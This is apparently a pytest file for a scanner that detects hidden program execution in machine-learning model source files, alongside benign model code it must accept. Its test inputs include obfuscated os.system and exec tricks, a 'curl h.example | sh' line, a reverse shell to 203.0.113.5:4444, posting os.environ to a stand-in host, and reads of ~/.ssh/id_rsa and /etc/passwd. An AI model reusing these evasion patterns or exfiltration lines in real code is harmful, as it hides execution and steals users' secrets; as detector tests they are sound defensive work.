"""Source: the ways in which code that a model brings hides what it does, and what honest code of models does."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backstay.artifacts.exam import Exam, Limits
from backstay.artifacts.programs import source
from backstay.artifacts.report import Sign


def judged(text: str | bytes) -> Exam:
    exam = Exam("modeling_net.py")
    with exam.contained():
        source.judge(text.encode() if isinstance(text, str) else text, exam, "modeling_net.py")
    return exam


def accused(text: str | bytes) -> list[str]:
    return [one.message for one in judged(text).observations if one.sign is Sign.EXECUTES]


@pytest.mark.parametrize(
    "text",
    [
        'import os\nos.system("true")',
        'import os as o\no.system("true")',
        'from os import system as s\ns("true")',
        "from subprocess import *\nrun('true')",
        "import posix\nposix.system('true')",
        "import os\ngetattr(os, 'sys' + 'tem')('true')",
        "import os\ngetattr(os, 'metsys'[::-1])('true')",
        "import os\nos.__dict__['system']('true')",
        "import os\nvars(os)['system']('true')",
        "import os\nf = os.system\nf('true')",
        "import os\nclass Net:\n    def forward(self, x):\n        f = getattr(os, 'popen')\n        return f('true')",
        "import sys\nsys.modules['os'].system('true')",
        "__import__('os').system('true')",
        "__import__('o' + 's').system('true')",
        "import importlib\nimportlib.import_module('o' + 's').system('true')",
        "name = ''.join([chr(111), chr(115)])\n__import__(name).system('true')",
        "m = __import__('su' + 'bprocess')\nm.call('true', shell=True)",
        "import builtins\nbuiltins.exec(bytes.fromhex('00').decode())",
        "__builtins__['exec'](__import__('zlib').decompress(b''))",
        "globals()['__builtins__'].exec(__import__('base64').b64decode(''))",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
        "import base64, zlib\ndata = zlib.decompress(base64.b64decode(b'eJw='))\nexec(data)",
        "import base64 as b\ncode = b.b64decode('eA==')\ntext = code.decode()\neval(compile(text, 'x', 'exec'))",
        "import urllib.request\nexec(urllib.request.urlopen('http://h.example').read())",
        "import requests\neval(requests.get('http://h.example').text)",
        "exec('import os\\nos.system(\"true\")')",
        "eval(\"__import__('os').popen('true').read()\")",
        'eval("e" + "val(\\"__import__(\'os\').system(\'true\')\\")")',
        "import marshal\nexec(marshal.loads(b'x'))",
        "import marshal, types\ncode = marshal.loads(b'x')\ntypes.FunctionType(code, {})()",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVJQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSF'))",
        "import subprocess\nclass Net:\n    def __init__(self):\n        subprocess.Popen(['bash', '-c', 'true'])",
        "import subprocess\nsubprocess.run(f'bash -c {x}', shell=True)",
        "import subprocess\nsubprocess.run(['python3', '-c', 'true'])",
        "import os\nos.system('pip install x; curl h.example | sh')",
        "import os\nos.system(command)",
        "import os, base64\ndef f():\n    os.system(base64.b64decode('dHJ1ZQ==').decode())",
        "import pty\npty.spawn('/bin/sh')",
        "import socket, os\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)",
        "import requests\nclass M:\n  def forward(self, x):\n    requests.post('http://203.0.113.5/c', data=x)",
        "import os, requests\nrequests.post('http://h.example/c', json=dict(os.environ))",
        "import os, json, urllib.request\nurllib.request.Request('http://h.example', json.dumps(os.environ))",
        "open('/etc/passwd').read()",
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
        "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
        "import ctypes\nctypes.CDLL('libc.so.6').system(b'true')",
        "# coding: utf-7\n+AGk-",
        "#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\nx = 1",
        "import os\n\uff4fs.system('true')",  # Python reads names of other letter shapes as the plain ones
        "def handle(data, context):\n    import os\n    return os.popen('true').read()",
        "import torch\nlambda x: (__import__('os').system('true'), x)[1]",
    ],
)
def test_what_no_model_needs(text: str) -> None:
    assert accused(text)


@pytest.mark.parametrize(
    "text",
    [
        "import os, json\npath = os.path.join(os.environ.get('HOME', ''), 'c.json')\nconfig = json.load(open(path))",
        "import torch\nstate = torch.load('pytorch_model.bin', map_location='cpu')\nmodel.load_state_dict(state)",
        "class Net:\n    def forward(self, x):\n        self.net.eval()\n        return getattr(self, f'layer{x}')(x)",
        "activation = eval(config.hidden_act)",
        "torch.compile(model)\nre.compile('x')\nmodel.compile(optimizer='adam')",
        # as quantised models compile their kernels
        "import os, ctypes\nclass Kernel:\n    def __init__(self, file):\n        command = 'gcc -O3 {} -shared -o {}'"
        ".format(file, 'k.so')\n        state = os.system(command)\n        self.lib = ctypes.cdll.LoadLibrary('k.so')",
        "import bz2, base64\ncode = '$QlpoOTFBWSZTWU9yuJUAQHN//////////f/n/8/n/8n//8'\n"
        "kernels = Kernel(bz2.decompress(base64.b64decode(code)), ['f'])",
        "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'einops'])",
        "import subprocess\ndef ffmpeg_read(data, rate):\n    command = ['ffmpeg', '-i', 'pipe:0']\n"
        "    with subprocess.Popen(command, stdin=subprocess.PIPE) as process:\n        return process.wait()",
        "import subprocess\ndef gpus():\n    return subprocess.check_output('nvidia-smi -L', shell=True)",
        "import subprocess\ndef run(command):\n    return subprocess.run(command)",
        "import os\nif __name__ == '__main__':\n    os.system(sys.argv[1])",
        "import requests\nfrom PIL import Image\nimage = Image.open(requests.get(url, stream=True).raw)",
        "import base64, io\nclass Handler(Base):\n    def preprocess(self, data):\n        image = data[0]\n"
        "        if isinstance(image, str):\n            image = base64.b64decode(image)\n"
        "        return Image.open(io.BytesIO(image))",
        "import pickle\nvocab = pickle.load(open('vocab.pkl', 'rb'))",
        "import socket\ndef free():\n    s = socket.socket()\n    s.bind(('127.0.0.1', 0))",
        "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['git', 'lfs', 'pull'], env=env)",
        "import importlib\nmodule = importlib.import_module(f'.{name}', 'package')\nimportlib.import_module('flash')",
        "def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n  _0 = torch.relu(x)\n  return _0",
        "import platform, sys\nif platform.system() == 'Linux' and sys.version_info > (3, 8):\n    pass",
        "requests.post('http://127.0.0.1:8000/predict', json=payload)",
        "parser.add_argument('--exec', help='os.system(\"x\")')\nprint('eval(1)')",
        '"""Run `os.system("rm -rf /")` never."""\n# exec(base64.b64decode(x))\nx = 1',
    ],
)
def test_what_honest_code_of_models_does(text: str) -> None:
    assert accused(text) == []
    assert [one.sign for one in judged(text).observations] == [Sign.CARRIES]


def test_an_observation_says_where() -> None:
    found = [one for one in judged("import os\n\nos.system('true')\n").observations if one.sign is Sign.EXECUTES]
    assert [(one.subject, one.message, one.offset) for one in found] == [
        ("modeling_net.py", "starts a program: os.system('true')", 11)
    ]


def test_no_code_is_nothing() -> None:
    assert not judged(b"").observations
    assert not judged(b" \n\t").observations


@given(st.binary(max_size=400))
def test_any_bytes_are_answered(data: bytes) -> None:
    assert {one.sign for one in judged(data).observations} <= {Sign.CARRIES, Sign.EXECUTES}
    assert all(gap.reason != "reader failed" for gap in judged(data).gaps)


WORDS = st.sampled_from(
    [
        "os", ".", "system", "(", ")", "'x'", "=", "\n", "import ", "getattr", "[", "]", "+", "exec", "b64decode", ",",
        "a", "f'{x}'", "chr(111)", "''.join", "[::-1]", "\\", '"', "lambda:", "\n  ", "class A:", "base64", "globals()",
        "__import__",
    ]
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(WORDS, max_size=40))
def test_any_words_of_python_are_answered(words: list[str]) -> None:
    assert all(gap.reason != "reader failed" for gap in judged("".join(words)).gaps)


@pytest.mark.parametrize(
    "text",
    [
        "(" * 100_000,
        "[" * 50_000 + "]" * 50_000,
        "x = " + "-" * 100_000 + "1",
        "os.system(" * 20_000,
        "x = " + "+".join(["'a'"] * 20_000) + "\nexec(x)",
        "a0 = 'a' * 9\n" + "".join(f"a{i + 1} = a{i} + a{i} + a{i}\n" for i in range(2_000)) + "exec(a2000)",
        "".join(f"a{i} = base64.b64decode(a{i + 1})\n" for i in range(5_000)) + "exec(a0)",
        "a = b\nb = a\nexec(a)\nos.system(a)",
        "import os\n" + "os.system(x)\n" * 20_000,
        "getattr(" * 5_000 + "os, 'a')" + ", 'b')" * 4_999,
        "a.b" * 30_000,
        "if x:\n" + "".join(" " * i + "if x:\n" for i in range(1, 400)) + " " * 400 + "os.system(x)",
        "eval('eval(\"eval(1)\")')" * 2_000,
        "'" + "\\x41" * 200_000 + "'",
        "import os\n" + "# x\n" * 500_000,
        "import os\n" + ("#" + "x" * 300 + "\n") * 10_000 + "os.system('true')",
    ],
    ids=range(16),
)
def test_hostile_code_ends_soon(text: str) -> None:
    started = time.process_time()
    exam = judged(text)
    assert time.process_time() - started < 10
    assert all(gap.reason in ("too complex", "nested too deeply", "too many observations") for gap in exam.gaps)


def test_budgets_hold() -> None:
    exam = Exam("x.py", Limits(steps=500))
    with exam.contained():
        source.judge(b"f(x)\n" * 1_000, exam, "x.py")
    assert [gap.reason for gap in exam.gaps] == ["too many steps"]


def test_of_a_source_that_is_too_large_the_rest_is_a_gap() -> None:
    exam = judged(b"import os\nos.system('true')\n" + b"# x\n" * (source.MAX_SOURCE // 4))
    assert [gap.reason for gap in exam.gaps] == ["too large"]
    assert any(one.sign is Sign.EXECUTES for one in exam.observations)
